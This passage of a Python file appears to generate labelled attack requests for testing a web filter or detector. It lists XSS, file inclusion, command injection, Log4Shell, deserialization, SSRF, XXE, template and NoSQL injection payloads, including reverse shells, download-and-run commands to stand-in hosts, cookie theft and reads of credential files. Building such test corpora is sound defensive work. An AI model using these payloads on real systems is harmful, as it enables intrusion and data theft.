                 "xml-attr", "soap-header", "mp-name", "cookie-json", "x-request-id",
                 "accept-language", "jwt-claim", "split-name", "x-real-ip", "cookie-urlenc",
                 "json-key-uesc", "path-matrix", "qname-bracket", "forwarded", "from",
                 "cookie-rails", "x-correlation-id", "jwt-kid", "true-client-ip", "cookie-dblenc",
                 "x-api-version", "mp-filename", "gql-opname", "if-modified-since", "xff-chain"]

# --- cross-site scripting ---------------------------------------------------

XSS = [
    ("script-domain", "<script>alert(document.domain)</script>"),
    ("svg-onload", "\"><svg/onload=alert(1)>"),
    ("img-cookie-exfil", "<img src=x onerror=fetch('//evil.example.net/?c='+document.cookie)>"),
    ("js-uri", "javascript:alert(document.cookie)"),
    ("js-string-break", "'-alert(1)-'"),
    ("script-close", "</script><script>alert(1)</script>"),
    ("iframe-srcdoc", "<iframe srcdoc=\"<script>parent.alert(1)</script>\">"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("entity-tab-js", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
    ("body-backtick", "<body onload=alert`1`>"),
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("mxss-math", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("angular-csti", "{{constructor.constructor('alert(1)')()}}"),
    ("autofocus", "\" autofocus onfocus=alert(1) x=\""),
    ("object-data-b64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"),
    ("video-source", "<video><source onerror=\"alert(1)\">"),
    ("base-href", "<base href=\"//evil.example.net/\">"),
    ("fromcharcode", "';alert(String.fromCharCode(88,83,83))//"),
    ("nested-script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("atob-eval", "<img src=1 onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("svg-xlink", "<svg><script xlink:href=data:,alert(1)></script>"),
    ("form-action", "<form action=javascript:alert(1)><input type=submit>"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("embed-js", "<embed src=javascript:alert(1)>"),
    ("data-uri-html", "data:text/html,<script>alert(1)</script>"),
    ("style-import", "<style>@import'//evil.example.net/x.css';</style>"),
    ("input-onpointer", "<input onpointerenter=alert(1) style=display:block;width:100%;height:100%>"),
    ("json-break", "\"}]</script><script>alert(1)</script>"),
    ("onerror-location", "<img src=x onerror=location='//evil.example.net/'+document.cookie>"),
    ("xss-polyglot", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"),
]

XSS_CARRIERS = ["referer", "ua", "xf-host", "cookie", "qname", "json-key", "mp-filename",
                "path-trailing", "fragment", "x-request-id", "accept-language", "gql-opname",
                "cookie-urlenc", "xml-attr", "method-override", "from", "mp-name", "via",
                "cookie-flask", "qname-dotted", "x-device-id", "json-key-top", "path-info",
                "split-name", "ms-principal", "origin", "x-client-version", "cookie-dblenc",
                "form-name", "kong-userinfo", "json-nested", "content-language"]

# --- traversal / local file inclusion ---------------------------------------

LFI = [
    ("etc-passwd", "../../../../etc/passwd"),
    ("pre-encoded", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("dot-dot-slash-dup", "....//....//....//etc/passwd"),
    ("win-ini", "..\\..\\..\\..\\windows\\win.ini"),
    ("proc-environ", "../../../../proc/self/environ"),
    ("apache-log", "../../../../var/log/apache2/access.log"),
    ("double-encoded", "..%252f..%252f..%252fetc%252fshadow"),
    ("dot-encoded", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/hosts"),
    ("overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("nullbyte-ext", "../../../etc/passwd%00.jpg"),
    ("file-uri", "file:///etc/passwd"),
    ("win-hosts", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("web-inf", "../../WEB-INF/web.xml"),
    ("tomcat-semicolon", "..;/..;/manager/html"),
    ("ssh-key", "../../../../../../root/.ssh/id_rsa"),
    ("k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("dotenv", "../../../../.env"),
    ("backslash-enc", "..%5c..%5c..%5c..%5cboot.ini"),
    ("php-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("locale-passwd", "../../../../../../etc/passwd%00"),
    ("proc-cmdline", "/proc/self/cmdline"),
]

LFI_CARRIERS = ["accept-language", "content-language", "cookie", "x-original-url", "path-encslash",
                "split-dirfile", "qname-bracket", "x-timezone", "json-key", "mp-filename",
                "cookie-b64", "path-info", "xf-prefix", "x-rewrite-url", "jwt-kid", "x-api-version",
                "gql-var", "jsonrpc", "cookie-json", "x-tenant-id", "xml-attr", "path-matrix"]

# --- remote file inclusion --------------------------------------------------

RFI = [
    ("http-shell-txt", "http://evil.example.net/shell.txt?"),
    ("ip-r57", "https://203.0.113.66/r57.txt??"),
    ("ftp-c99", "ftp://198.51.100.9/c99.php"),
    ("proto-relative-null", "//evil.example.net/x.php%00"),
    ("data-wrapper", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWyJjIl0pOz8+"),
    ("unc-share", "\\\\203.0.113.5\\share\\shell.php"),
    ("encoded-qmark", "http://evil.example.net/inc.txt%3F"),
    ("hex-ip", "http://0xcb007142/s.txt?"),
    ("php-expect-include", "http://evil.example.net/wso.txt#"),
    ("https-include", "https://cdn.evil.example.org/lib/config.inc.txt?"),
    ("smb-uri", "smb://198.51.100.77/pub/bd.php"),
]

RFI_CARRIERS = ["cookie", "accept-language", "path-info", "split-dirfile", "qname-bracket",
                "content-language", "mp-name", "cookie-urlenc", "x-tenant-id", "x-original-url",
                "cookie-b64"]


# --- OS command injection ---------------------------------------------------

RCE = [
    ("semicolon-id", ";id"),
    ("pipe-passwd", "| cat /etc/passwd"),
    ("subshell-curl-sh", "$(curl -s http://evil.example.net/x.sh|sh)"),
    ("backtick-wget", "`wget -qO- 203.0.113.7/a|sh`"),
    ("and-ping", "&& ping -c 3 203.0.113.8"),
    ("or-nc", "|| nc -e /bin/sh 203.0.113.9 4444"),
    ("bash-devtcp", "; bash -i >& /dev/tcp/203.0.113.10/443 0>&1"),
    ("ifs-shadow", ";cat${IFS}/etc/shadow"),
    ("ip-then-cmd", "127.0.0.1;cat</etc/passwd"),
    ("brace-expansion", "a;{cat,/etc/passwd}"),
    ("python-revshell", "; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.11\",9001));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'"),
    ("powershell-iex", "| powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil.example.net/p.ps1')\""),
    ("win-whoami", "& whoami /all"),
    ("glob-cat", ";/???/??t /???/p??s??"),
    ("b64-pipe-sh", "$(echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh)"),
    ("perl-system", "; perl -e 'system(\"id\")'"),
    ("shellshock", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
    ("backslash-split", "; c\\at /et\\c/pa\\sswd"),
    ("quote-split", "; ca''t /etc/pas''swd"),
    ("subshell-sleep", "$(sleep 10)"),
    ("curl-exfil", "; curl -d @/etc/passwd http://evil.example.net/"),
    ("certutil", "| certutil -urlcache -split -f http://evil.example.net/a.exe %TEMP%\\a.exe"),
    ("mkfifo-nc", "; rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.12 4242 >/tmp/f"),
    ("ssh-proxycommand", "-oProxyCommand=sh -c 'id>/tmp/p' x", "split-hostport"),
    ("newline-encoded", "%0aid%0a"),
    ("node-serialize", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("yaml-python-apply", "!!python/object/apply:os.system ['curl evil.example.net/p|sh']"),
    ("nslookup-oob", "`nslookup $(whoami).oob.example.net`"),
    ("tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh shell.sh"),
    ("env-expansion", ";echo $((31337*7)) $(cat /proc/version)"),
]

RCE_CARRIERS = ["ua", "referer", "xff", "x-request-id", "cookie", "mp-filename", "split-hostport",
                "qname", "json-key", "path-rest", "gql-var", "jsonrpc", "xml-text", "x-device-id",
                "cookie-b64", "accept-language", "ua", "x-client-version", "mp-parthdr",
                "path-info", "cookie-express", "qname-array", "soap-header", "split-dirfile",
                "fragment", "cookie-b64", "cookie-b64", "from", "x-correlation-id", "mp-name",
                "json-nested"]

# --- PHP specific -----------------------------------------------------------

PHP = [
    ("system-tag", "<?php system($_GET['c']); ?>"),
    ("short-echo-backtick", "<?=`$_GET[0]`?>"),
    ("expect-wrapper", "expect://id"),
    ("phar-wrapper", "phar://./uploads/avatar.jpg/test.txt"),
    ("zip-wrapper", "zip://uploads/a.zip#shell.php"),
    ("assert-request", "assert($_REQUEST['x'])"),
    ("eval-b64", "eval(base64_decode('c3lzdGVtKCJpZCIpOw=='));"),
    ("file-put-contents", "file_put_contents('s.php','<?php eval($_POST[x]);?>')"),
    ("object-injection", "O:8:\"Example\\Cache\":1:{s:4:\"file\";s:21:\"/var/www/html/x.php\";}"),
    ("laravel-pendingbroadcast", "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"\x00*\x00events\";O:15:\"Faker\\Generator\":1:{s:13:\"\x00*\x00formatters\";a:1:{s:8:\"dispatch\";s:6:\"system\";}}s:8:\"\x00*\x00event\";s:2:\"id\";}"),
    ("guzzle-fnstream", "O:24:\"GuzzleHttp\\Psr7\\FnStream\":2:{s:33:\"\x00GuzzleHttp\\Psr7\\FnStream\x00methods\";a:1:{s:5:\"close\";s:7:\"phpinfo\";}s:9:\"_fn_close\";s:7:\"phpinfo\";}"),
    ("array-object", "a:1:{i:0;O:16:\"Monolog\\Handler\":1:{s:6:\"stream\";s:11:\"php://input\";}}"),
    ("create-function", "create_function('', 'system(\"id\");')"),
    ("preg-replace-e", "/.*/e"),
    ("call-user-func", "call_user_func('system','id')"),
    ("php-input", "php://input"),
    ("include-session", "/var/lib/php/sessions/sess_" + "ab12cd34ef56ab12cd34ef56ab"),
]

PHP_CARRIERS = ["cookie-b64", "ua", "cookie", "mp-filename", "path-info", "referer", "x-request-id",
                "mp-name", "cookie-b64", "cookie-urlenc", "cookie-rails", "cookie-b64",
                "json-key", "qname-bracket", "form-name", "accept-language", "split-dirfile"]

# --- Java: Log4Shell, EL / OGNL, deserialization ----------------------------

JAVA_SER = b64(b"\xac\xed\x00\x05sr\x00*org.apache.commons.collections.map.LazyMapn\xe5\x94\x82\x9ey\x10\x94"
               b"\x03\x00\x01L\x00\x07factoryt\x00,Lorg/apache/commons/collections/Transformer;xpsr\x00:"
               b"org.apache.commons.collections.functors.InvokerTransformer\x87\xe8\xffk{|\xce8\x02\x00\x03"
               b"[\x00\x05iArgst\x00\x13[Ljava/lang/Object;L\x00\x0biMethodNamet\x00\x12Ljava/lang/String;"
               b"xpt\x00\x04exect\x00\x0agetRuntimet\x00\x02id")

JAVA = [
    ("log4shell-ldap", "${jndi:ldap://evil.example.net:1389/a}"),
    ("log4shell-lower", "${${lower:j}ndi:${lower:l}dap://evil.example.net/x}"),
    ("log4shell-env-dns", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.oob.example.net}"),
    ("log4shell-default-split", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.20/o}"),
    ("log4shell-rmi", "${jndi:${lower:r}mi://203.0.113.21:1099/Exploit}"),
    ("log4shell-env-nan", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example.net/z}"),
    ("log4shell-upper-ldaps", "${jNdI:LdApS://evil.example.net/a}"),
    ("log4shell-sysprop", "${jndi:ldap://${sys:java.version}.${hostName}.oob.example.net/a}"),
    ("log4shell-date-trick", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://198.51.100.50/c}"),
    ("text4shell", "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}"),
    ("spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("spel-processbuilder", "T(java.lang.ProcessBuilder).new({'sh','-c','id'}).start()"),
    ("jsp-el-session", "${pageContext.request.getSession().setAttribute(\"admin\",true)}"),
    ("jsf-el-runtime", "#{request.getClass().getClassLoader().loadClass(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")}"),
    ("ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("ognl-member-access", "${#_memberAccess[\"allowStaticMethodAccess\"]=true,@java.lang.Runtime@getRuntime().exec('id')}"),
    ("java-serialized-b64", JAVA_SER),
    ("fastjson-jdbcrowset", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.22:1099/Obj\",\"autoCommit\":true}"),
    ("jackson-polymorphic", "[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"jndiLocation\":\"ldap://evil.example.net:1389/x\"}]"),
    ("snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example.net/y.jar\"]]]]"),
    ("groovy-execute", "${\"id\".execute().text}"),
]

JAVA_CARRIERS = ["ua", "referer", "x-api-version", "xff", "accept-language", "cookie", "x-request-id",
                 "if-modified-since", "from", "basic-user", "json-key", "path-rest", "via",
                 "x-correlation-id", "x-client-version", "mp-filename", "cookie-b64", "json-nested",
                 "cookie-b64", "gql-var", "soap-header", "qname-dotted"]

# --- server-side request forgery --------------------------------------------

SSRF = [
    ("aws-imds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "webhook-url"),
    ("gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "x-wap-profile"),
    ("azure-imds", "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "avatar-url"),
    ("alibaba-metadata", "http://100.100.100.200/latest/meta-data/", "gql-var"),
    ("docker-api", "http://127.0.0.1:2375/containers/json", "jsonrpc"),
    ("gopher-redis", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2430%0D%0A%0A%0A%2A/1%20*%20*%20*%20*%20sh%20-i%0A%0A%0D%0A", "webhook-url"),
    ("ipv6-mapped-imds", "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "image-proxy"),
    ("decimal-imds", "http://2852039166/latest/user-data", "json-nested"),
    ("hex-loopback", "http://0x7f000001:8080/admin", "xml-attr"),
    ("elasticsearch", "http://localhost:9200/_cat/indices?v", "cookie-b64"),
    ("dict-memcached", "dict://127.0.0.1:11211/stats", "avatar-url"),
    ("consul-agent", "10.0.0.5", "split-hostport"),
    ("k8s-secrets", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "ws-addressing"),
    ("short-loopback", "http://127.1/server-status", "referer"),
    ("ecs-credentials", "http://169.254.170.2/v2/credentials/", "jwt-jku"),
    ("userinfo-confusion", "http://trusted.example.com@169.254.169.254/latest/meta-data/", "image-proxy"),
    ("ipv6-loopback", "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/actuator/env", "cookie-json"),
    ("zero-host", "http://0/admin/config", "x-wap-profile"),
    ("file-scheme", "file:///proc/self/environ", "soap-header"),
    ("jar-scheme", "jar:http://127.0.0.1:8080/x.jar!/", "gql-var"),
    ("imds-hostonly", "169.254.169.254", "xfh-hostonly"),
    ("rfc1918-admin", "http://192.168.0.1/cgi-bin/luci", "jwt-jku"),
    ("octal-loopback", "http://0177.0.0.1:6443/", "webhook-url"),
    ("oracle-cloud", "http://169.254.169.254/opc/v2/instance/", "ws-addressing"),
    ("gcp-hostonly", "metadata.google.internal", "forwarded-host"),
    ("loopback-internal-port", "127.0.0.1:6379", "split-hostport"),
]

SSRF_CARRIERS = ["webhook-url"]


# --- XML external entities (whole XML documents, in several XML carriers) ----

def xxe_attacks(c):
    passwd = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
              '<order xmlns="urn:example:orders:1"><item sku="A-100" qty="1"/><note>&xxe;</note></order>')
    c.add("file-entity-order", "xxe", "POST", "/ws/orders", [], passwd, "application/xml")

    oob = ('<?xml version="1.0"?>\n<!DOCTYPE data [<!ENTITY % remote SYSTEM "http://evil.example.net/oob.dtd"> %remote; %send;]>\n'
           '<data><id>1</id></data>')
    c.add("param-entity-oob-json-endpoint", "xxe", "POST", "/api/v1/preferences",
          [["X-Requested-With", "XMLHttpRequest"]], oob, "application/xml")

    filt = ('<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">]>\n'
            '<methodCall><methodName>&x;</methodName><params/></methodCall>')
    c.add("php-filter-xmlrpc-methodname", "xxe", "POST", "/xmlrpc.php", [], filt, "text/xml")

    xinc = ('<?xml version="1.0"?>\n<invoice xmlns:xi="http://www.w3.org/2001/XInclude">'
            '<customer><xi:include parse="text" href="file:///etc/hostname"/></customer></invoice>')
    c.add("xinclude-element", "xxe", "POST", "/billing/import", [], xinc, "application/xml")

    svg = ('<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n'
           '<svg width="128" height="128" xmlns="http://www.w3.org/2000/svg"><text x="10" y="40">&xxe;</text></svg>')
    body, ct = multipart([{"name": "avatar", "filename": "me.svg", "ctype": "image/svg+xml", "value": svg}])
    c.add("svg-upload-multipart", "xxe", "POST", "/profile/avatar", _browser_hdrs(), body, ct)

    laughs = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
              '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
              '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>\n<lolz>&lol4;</lolz>')
    c.add("billion-laughs", "xxe", "POST", "/api/feeds/validate", [], laughs, "text/xml")

    soap = ('<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE soap:Envelope [<!ENTITY creds SYSTEM "file:///C:/inetpub/wwwroot/web.config">]>\n'
            '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Header>'
            '<AuthHeader xmlns="urn:example"><User>&creds;</User></AuthHeader></soap:Header>'
            '<soap:Body><Ping xmlns="urn:example"/></soap:Body></soap:Envelope>')
    c.add("soap-header-entity", "xxe", "POST", "/Service.asmx", [["SOAPAction", '"urn:example/Ping"']], soap,
          "text/xml; charset=utf-8")

    expect = ('<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY cmd SYSTEM "expect://id">]>\n'
              '<user><name>&cmd;</name></user>')
    c.add("expect-wrapper", "xxe", "PUT", "/api/users/42.xml", [], expect, "application/xml")

    saml = ('<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://198.51.100.61/saml.dtd"> %ext;]>\n'
            '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_%s" Version="2.0">'
            '<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://idp.example.org</saml:Issuer>'
            '</samlp:Response>').replace('_%s', '_' + hexid(32))
    c.add("saml-response-b64-form", "xxe", "POST", "/saml/acs", _browser_hdrs(),
          form([("SAMLResponse", b64(saml)), ("RelayState", "/dashboard")]), "application/x-www-form-urlencoded")

    localdtd = ('<?xml version="1.0"?>\n<!DOCTYPE message [\n<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n'
                '<!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;\'>\n'
                '%local_dtd;]>\n<message>x</message>')
    c.add("local-dtd-repurpose", "xxe", "POST", "/api/messages", [], localdtd, "application/xml")

    rss = ('<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///var/run/secrets/kubernetes.io/serviceaccount/token">]>\n'
           '<rss version="2.0"><channel><title>&x;</title><link>https://blog.example.org/</link></channel></rss>')
    c.add("rss-import-form-field", "xxe", "POST", "/feeds/import", _browser_hdrs(),
          form([("feed_xml", rss), ("category", "news")]), "application/x-www-form-urlencoded")

    dav = ('<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE D:propfind [<!ENTITY e SYSTEM "http://169.254.169.254/latest/meta-data/">]>\n'
           '<D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&e;</D:displayname></D:prop></D:propfind>')
    c.add("webdav-propfind-ssrf", "xxe", "PROPFIND", "/dav/files/jdoe/", [["Depth", "1"]], dav, "application/xml")

    attr = ('<?xml version="1.0"?>\n<!DOCTYPE cfg [<!ENTITY % p SYSTEM "http://evil.example.net/attr.dtd"> %p;]>\n'
            '<config><feature name="&exfil;" enabled="true"/></config>')
    c.add("entity-in-attribute", "xxe", "POST", "/admin/config/import", [], attr, "application/xml")

    mtom = ('<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY f SYSTEM "netdoc:///etc/passwd">]>\n'
            '<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body>'
            '<upload xmlns="urn:example:docs"><name>&f;</name></upload></soap:Body></soap:Envelope>')
    body, ct = multipart([{"name": "root", "cd": 'form-data; name="root"', "ctype": 'application/xop+xml; charset=UTF-8; type="application/soap+xml"',
                           "extra": [("Content-ID", "<root.message@example.org>")], "value": mtom}])
    c.add("java-netdoc-multipart-soap", "xxe", "POST", "/ws/DocumentService", [], body, ct)

    utf7 = ('<?xml version="1.0" encoding="UTF-7"?>\n+ADw-+ACE-DOCTYPE foo+AFs-+ADw-+ACE-ENTITY xxe SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-\n'
            '+ADw-foo+AD4-+ACY-xxe+ADs-+ADw-/foo+AD4-')
    c.add("utf7-encoded-doctype", "xxe", "POST", "/api/import", [], utf7, "application/xml")

    jsonxml = ('<?xml version="1.0"?>\n<!DOCTYPE root [<!ENTITY x SYSTEM "file:///etc/shadow">]>\n'
               '<root><username>&x;</username><password>p</password></root>')
    c.add("content-type-switch-login", "xxe", "POST", "/api/login", [["Origin", "https://app.example.com"]],
          jsonxml, "text/xml")

# --- server-side template injection ------------------------------------------

SSTI = [
    ("jinja2-config-os", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
    ("jinja2-self-builtins", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("jinja2-subclasses", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("jinja2-lipsum", "{{lipsum.__globals__.os.popen('cat /etc/passwd').read()}}"),
    ("jinja2-cycler", "{{cycler.__init__.__globals__.os.popen('id').read()}}"),
    ("jinja2-attr-hex", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')}}"),
    ("twig-filter-callback", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
    ("twig3-filter-system", "{{['id']|filter('system')}}"),
    ("freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("velocity-runtime", "#set($r=$x.class.forName('java.lang.Runtime'))$r.getRuntime().exec('id')"),
    ("erb-backtick", "<%= `id` %>"),
    ("erb-system", "<%= system('cat /etc/passwd') %>"),
    ("smarty-system", "{system('id')}"),
    ("smarty-php-tag", "{php}echo `id`;{/php}"),
    ("pug-child-process", "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('id')}()}"),
    ("mako-os", "${self.module.cache.util.os.system('id')}"),
    ("tornado-import", "{% import os %}{{os.popen('id').read()}}"),
    ("django-secret", "{{settings.SECRET_KEY}}"),
    ("nunjucks-range", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("razor-process", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("probe-7x7-string", "{{7*'7'}}"),
    ("probe-dollar-brace", "${7*7}"),
    ("handlebars-constructor", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
]

SSTI_CARRIERS = ["ua", "xf-host", "cookie", "qname-bracket", "json-key", "accept-language", "referer",
                 "mp-filename", "split-name", "cookie-b64", "x-request-id", "gql-var", "jsonrpc",
                 "path-trailing", "cookie-flask", "from", "xml-text", "json-nested", "mp-name",
                 "fragment", "cookie-json", "x-tenant-id", "json-key-top", "ms-principal"]


def ssti_specials(c):
    # Spring view-name manipulation (Thymeleaf fragment expression from a path variable)
    c.add("thymeleaf-viewname-path", "ssti", "GET",
          "/doc/__$%7BT(java.lang.Runtime).getRuntime().exec(%22id%22)%7D__::.x", _browser_hdrs())
    c.add("thymeleaf-viewname-lang-cookie", "ssti", "GET", "/home",
          [["Cookie", "lang=__%24%7BT(java.lang.Runtime).getRuntime().exec('touch%20/tmp/x')%7D__%3A%3A.x"]] + _browser_hdrs())
    # EJS option pollution through nested query NAMES (settings[view options][...])
    c.add("ejs-outputfunctionname-qname", "ssti", "GET",
          "/page?id=1&settings[view%20options][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s",
          _browser_hdrs())
    c.add("ejs-escapefunction-json", "ssti", "POST", "/render",
          [], jdump({"name": "x", "settings": {"view options": {"client": True,
                     "escapeFunction": "1;return global.process.mainModule.constructor._load('child_process').execSync('id');"}}}),
          "application/json")

# --- NoSQL injection -----------------------------------------------------------

def nosqli_attacks(c):
    c.add("mongo-ne-qnames", "nosqli", "GET", "/api/login?username[$ne]=x&password[$ne]=x", _browser_hdrs())
    c.add("mongo-regex-form-names", "nosqli", "POST", "/login", _browser_hdrs(),
          "username=admin&password%5B%24regex%5D=%5Ea.*", "application/x-www-form-urlencoded")
    c.add("mongo-gt-empty-form", "nosqli", "POST", "/reset/verify", _browser_hdrs(),
          "email=jane%40example.com&token[$gt]=", "application/x-www-form-urlencoded")
    c.add("mongo-nin-array-qname", "nosqli", "GET", "/api/users?role[$nin][]=guest&role[$nin][]=user", _browser_hdrs())
    c.add("mongo-ne-json-values", "nosqli", "POST", "/api/auth/login", [],
          jdump({"username": {"$ne": None}, "password": {"$ne": None}}), "application/json")
    c.add("mongo-where-sleep-key", "nosqli", "POST", "/api/products/search", [],
          jdump({"$where": "sleep(5000) || true"}), "application/json")
    c.add("mongo-where-js-break", "nosqli", "GET",
          "/api/orders?customer=%27%3Breturn%20true%3Bvar%20x%3D%27", _browser_hdrs())
    c.add("mongo-or-key", "nosqli", "POST", "/api/v1/accounts/find", [],
          jdump({"$or": [{}, {"a": "a"}], "limit": 1}), "application/json")
    c.add("mongo-regex-prefix-json", "nosqli", "POST", "/api/session", [],
          jdump({"username": "admin", "password": {"$regex": "^p"}}), "application/json")
    c.add("mongo-cookie-json-gt", "nosqli", "GET", "/account",
          [["Cookie", "session=" + pct(jdump({"user": {"$gt": ""}}), safe="{}:,")]] + _browser_hdrs())
    c.add("mongo-gql-variable-object", "nosqli", "POST", "/graphql", [],
          jdump({"operationName": "User", "query": "query User($filter: JSON) { users(filter: $filter) { id email } }",
                 "variables": {"filter": {"email": {"$regex": ".*"}, "isAdmin": {"$eq": True}}}}), "application/json")
    c.add("mongo-function-expr", "nosqli", "POST", "/api/reports/query", [],
          jdump({"filter": {"$expr": {"$function": {"body": "function(){ return sleep(3000) || true }",
                                                       "args": [], "lang": "js"}}}}), "application/json")
    c.add("mongo-where-process-key-uesc", "nosqli", "POST", "/api/items/query", [],
          '{%s:"this.constructor.constructor(\'return process\')().mainModule.require(\'child_process\').execSync(\'id\')"}'
          % uni_escape_json("$where"), "application/json")
    c.add("mongo-lookup-aggregation", "nosqli", "POST", "/api/analytics/pipeline", [],
          jdump({"pipeline": [{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}},
                              {"$project": {"u.password": 1, "u.apiKey": 1}}]}), "application/json")
    c.add("mongo-ne-jwt-claim", "nosqli", "GET", "/api/v1/profile",
          [["Authorization", "Bearer " + jwt_like({"sub": {"$ne": ""}, "iat": 1716200000})]])
    c.add("mongo-this-regex-header", "nosqli", "GET", "/api/tenants/current",
          [["X-Tenant-ID", "acme' && this.password.match(/^a/)//"]])
    c.add("couchdb-selector-gt", "nosqli", "POST", "/db/_find",
          [["Authorization", "Basic " + b64("app:app")]],
          jdump({"selector": {"_id": {"$gt": None}, "type": "user"}, "fields": ["_id", "password_scheme", "derived_key"]}),
          "application/json")
    c.add("mongo-exists-b64-cookie", "nosqli", "GET", "/dashboard",
